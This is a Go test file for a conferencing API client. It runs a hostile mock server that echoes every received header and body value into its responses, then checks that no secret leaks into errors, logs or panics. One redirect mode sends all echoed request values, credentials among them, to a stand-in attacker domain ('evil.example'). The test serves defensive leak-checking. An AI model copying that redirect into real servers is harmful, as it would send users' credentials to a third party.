package quanshi

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"
)

// hostileServer echoes every header and body field it received into its
// answer, in every place an answer has text (message, request id, payload,
// an HTML page, a redirect's Location), as is, JSON-escaped and
// percent-encoded. It records the per-request signatures it received, so that
// the test can search for them too.
type hostileServer struct {
	mu     sync.Mutex
	mode   string
	signed map[string]bool // the Nonce and CheckSum headers that came in
}

// hostileModes are the answers the server gives.
var hostileModes = []string{"business-200", "business-500", "html-502", "redirect-302", "redirect-303", "broken-json", "misfit", "ok-mint-then-echo"}

func (h *hostileServer) setMode(m string) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.mode = m
}

// values returns the header and body values of req, recording them.
func (h *hostileServer) values(req *http.Request) []string {
	body, _ := io.ReadAll(req.Body)
	var vals []string
	for name, vs := range req.Header {
		if name == "Content-Length" || name == "Accept-Encoding" {
			continue
		}
		vals = append(vals, vs...)
	}
	if form, err := url.ParseQuery(string(body)); err == nil && strings.Contains(req.Header.Get("Content-Type"), "form") {
		for _, vs := range form {
			vals = append(vals, vs...)
		}
	}
	var members map[string]any
	if decodeJSON(body, &members) == nil {
		for _, v := range members {
			if s, ok := v.(string); ok {
				vals = append(vals, s)
			}
		}
	}
	vals = append(vals, string(body))
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, name := range []string{"Nonce", "CheckSum"} {
		if v := req.Header.Get(name); v != "" {
			h.signed[v] = true
		}
	}
	return vals
}

func (h *hostileServer) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	vals := h.values(req)
	h.mu.Lock()
	mode := h.mode
	h.mu.Unlock()
	var forms []string
	for _, v := range vals {
		forms = append(forms, escapedForms(v)...)
	}
	echo := strings.Join(forms, " | ")
	quoted := jsonQuote(echo)
	first := jsonQuote(vals[0])
	switch mode {
	case "ok-mint-then-echo":
		if strings.HasSuffix(req.URL.Path, opTokenCreate.Path) {
			_, _ = w.Write([]byte(`{"code":200,"data":{"token":"minted/tok+en=5d41c4ac806c6440","expire":86400}}`))
			return
		}
		fallthrough
	case "business-200", "business-500":
		if mode == "business-500" {
			w.WriteHeader(http.StatusInternalServerError)
		}
		fmt.Fprintf(w, `{"status":50103,"code":50103,"msg":%s,"message":%s,"request_id":%s,"reqid":%s,"requestId":%s,"request_duration":%s,"result":{"echo":%s},"data":{"echo":%s}}`,
			quoted, quoted, first, first, first, first, quoted, quoted)
	case "html-502":
		w.WriteHeader(http.StatusBadGateway)
		fmt.Fprintf(w, "<html>%s</html>", echo)
	case "redirect-302", "redirect-303":
		code := http.StatusFound
		if mode == "redirect-303" {
			code = http.StatusSeeOther
		}
		w.Header().Set("Location", "https://"+url.PathEscape(vals[0])+".evil.example/x?all="+url.QueryEscape(echo))
		w.WriteHeader(code)
	case "broken-json":
		fmt.Fprintf(w, `{"status":0,"code":200,"result":{"echo":%s},"data":{"echo":%s},"msg":%s`, quoted, quoted, quoted)
	case "misfit":
		fmt.Fprintf(w, `{"status":0,"code":200,"result":{"count":%s},"data":{"count":%s}}`, quoted, quoted)
	}
}

// TestHostileServerEchoingEverythingLeaksNoSecret drives every family and
// the token mint against a server that echoes back everything it received,
// under every kind of answer, and searches every error (each verb, each
// error of its chain), a caller's slog line, a recovered panic, the debug
// log and the captured metadata for every secret the client holds or sent,
// in every escaped form.
func TestHostileServerEchoingEverythingLeaksNoSecret(t *testing.T) {
	h := &hostileServer{signed: map[string]bool{}}
	srv := httptest.NewServer(h)
	defer srv.Close()
	var logBuf bytes.Buffer
	var logMu sync.Mutex
	logger := slog.New(slog.NewTextHandler(&lockedWriter{buf: &logBuf, mu: &logMu}, &slog.HandlerOptions{Level: slog.LevelDebug}))
	hosts := []Option{WithBaseURL(srv.URL), WithEventBaseURL(srv.URL), WithUMeetingBaseURL(srv.URL), WithLogger(logger),
		WithLegacyAppKey(testLegacyAppKey), WithUMeetingCredentials(testUMeetingKey, testUMeetingSecret), WithRetryPolicy(fastRetries)}
	static, err := NewClient(append(hosts, WithToken(testToken))...)
	require.NoError(t, err)
	minting, err := NewClient(append(hosts, WithAppCredentials(testAppKey, testAppSecret, testAdminUserID))...)
	require.NoError(t, err)
	defer static.Close()
	defer minting.Close()

	write := Operation{Family: FamilyConfOpenAPI, Method: http.MethodPost, Path: "/confopenapi/conference/create"}
	ops := []Operation{testLegacyOp, testConfOp, testEventOp, testUMOp, write, opTokenCreate}
	var texts []string
	calls := 0
	for _, mode := range hostileModes {
		h.setMode(mode)
		for _, c := range []*Client{static, minting} {
			for _, op := range ops {
				if op.SignedHeaders && c == static {
					continue
				}
				minting.tokens.invalidate("minted/tok+en=5d41c4ac806c6440") // mint again on every call
				var info ResponseInfo
				var out probeResult
				err := c.Do(context.Background(), op, map[string]any{"conferenceId": "239139091", "note": "x"}, &out, CaptureResponse(&info))
				calls++
				if err == nil {
					continue
				}
				texts = append(texts, printed(err), info.Message, info.RequestID, recoveredText(err), slogText(err))
			}
		}
	}
	logMu.Lock()
	texts = append(texts, logBuf.String())
	logMu.Unlock()

	// The fixed credentials are searched in every escaped form; the
	// signatures of each mint (Nonce, CheckSum: dozens) as they are.
	secrets := map[string][]string{}
	for _, v := range []string{testToken, testAppKey, testAppSecret, testLegacyAppKey, testUMeetingKey, testUMeetingSecret, "minted/tok+en=5d41c4ac806c6440"} {
		secrets[v] = escapedForms(v)
	}
	h.mu.Lock()
	for v := range h.signed {
		secrets[v] = []string{v}
	}
	h.mu.Unlock()
	leaks := 0
	for secret, forms := range secrets {
		for _, form := range forms {
			for _, text := range texts {
				if i := strings.Index(text, form); i >= 0 && leaks < 10 {
					leaks++
					t.Errorf("secret %q leaks as %q: …%s…", secret, form, text[max(0, i-200):min(len(text), i+len(form)+20)])
				}
			}
		}
	}
	t.Logf("%d calls over %d modes, %d texts, %d secrets", calls, len(hostileModes), len(texts), len(secrets))
	require.Greater(t, len(secrets), 8, "the signed headers were captured")
}

// recoveredText panics with err and returns what a recover handler prints.
func recoveredText(err error) (s string) {
	defer func() {
		r := recover()
		s = fmt.Sprintf("%v | %+v | %#v", r, r, r)
	}()
	panic(err)
}

// slogText is a caller's log line with err, as text and as JSON.
func slogText(err error) string {
	var buf bytes.Buffer
	slog.New(slog.NewTextHandler(&buf, nil)).Error("call failed", "err", err)
	slog.New(slog.NewJSONHandler(&buf, nil)).Error("call failed", "err", err, "detail", fmt.Sprintf("%+v", err))
	return buf.String()
}

// lockedWriter serialises writes to buf.
type lockedWriter struct {
	buf *bytes.Buffer
	mu  *sync.Mutex
}

func (w *lockedWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.buf.Write(p)
}
